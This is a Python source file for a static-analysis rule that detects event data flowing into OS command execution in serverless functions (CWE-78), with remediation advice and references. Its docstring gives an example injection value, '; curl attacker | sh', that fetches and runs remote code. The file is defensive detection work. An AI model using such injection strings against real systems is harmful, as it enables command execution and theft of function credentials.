"""RMT-CODE-001."""

from __future__ import annotations

from collections.abc import Iterator

from remit.code.facts import SinkKind
from remit.findings import Category, Responsibility, Severity
from remit.model.application import Application
from remit.model.entities import Function
from remit.rules.base import Hit, rule
from remit.rules.code._common import flow_hits

IMPACT = ("the attacker runs commands in the function's execution environment, with its role's "
          'credentials')


@rule(
    id="RMT-CODE-001",
    title='Event data reaches an OS command',
    severity=Severity.CRITICAL,
    category=Category.EVENT_INJECTION,
    responsibility=Responsibility.CODE,
    scope=Function,
    remediation=('Pass a list of arguments without shell=True (subprocess.run(["convert", path, '
                 'out])), never build a command string from event data; quote with shlex.quote only '
                 'when a shell is unavoidable, and validate values against an allow-list.'),
    references=(
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://cwe.mitre.org/data/definitions/78.html',
        'CSA SAS-1 Function Event-Data Injection',
    ),
    cwe=('CWE-78',),
)
def check(fn: Function, app: Application) -> Iterator[Hit]:
    """Event data reaches a shell or the program name of a process.

    ``os.system``, ``os.popen``, ``subprocess.*`` with ``shell=True`` or with a command *string*, and the
    ``os.exec*`` / ``os.spawn*`` family run what they are given. When a field of the event (an API request's
    body, a query parameter, an S3 object key a partner chose, an SQS message) is part of that text, the
    sender picks the command: ``; curl attacker | sh`` runs in the function's execution environment with the
    function role's temporary credentials in its environment variables.

    A list of arguments without a shell is safe for every element but the first (the program); values that
    went through ``shlex.quote``, ``int()``, or an allow-list check are not reported.
    """
    yield from flow_hits(fn, app, SinkKind.COMMAND, Severity.CRITICAL, IMPACT)
